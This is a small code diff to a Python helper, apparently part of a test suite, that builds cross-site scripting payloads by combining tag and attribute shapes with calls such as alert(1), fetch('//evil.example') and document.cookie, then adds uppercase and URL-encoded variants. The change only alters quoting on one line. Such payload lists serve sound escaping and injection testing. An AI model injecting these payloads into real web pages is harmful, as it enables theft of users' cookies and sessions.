@@ -29,7 +29,7 @@ def scripts() -> list[str]:
     """Texts that would run in a page that does not escape them."""
     calls = ("alert(1)", "fetch('//evil.example')", "document.cookie")
     shapes = ("<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<b onclick={}>")
-    shapes += ("javascript:{}", "\"><script>{}</script>", "'-{}-'", "</title><script>{}</script>")
+    shapes += ("javascript:{}", '"><script>{}</script>', "'-{}-'", "</title><script>{}</script>")
     shapes += ("{{{{{}}}}}", "${{{}}}", "<a href='javascript:{}'>", "<iframe srcdoc='{}'>")
     made = [shape.format(call) for shape, call in itertools.product(shapes, calls)]
     changed = [text.upper() for text in made] + [quote(text) for text in made]
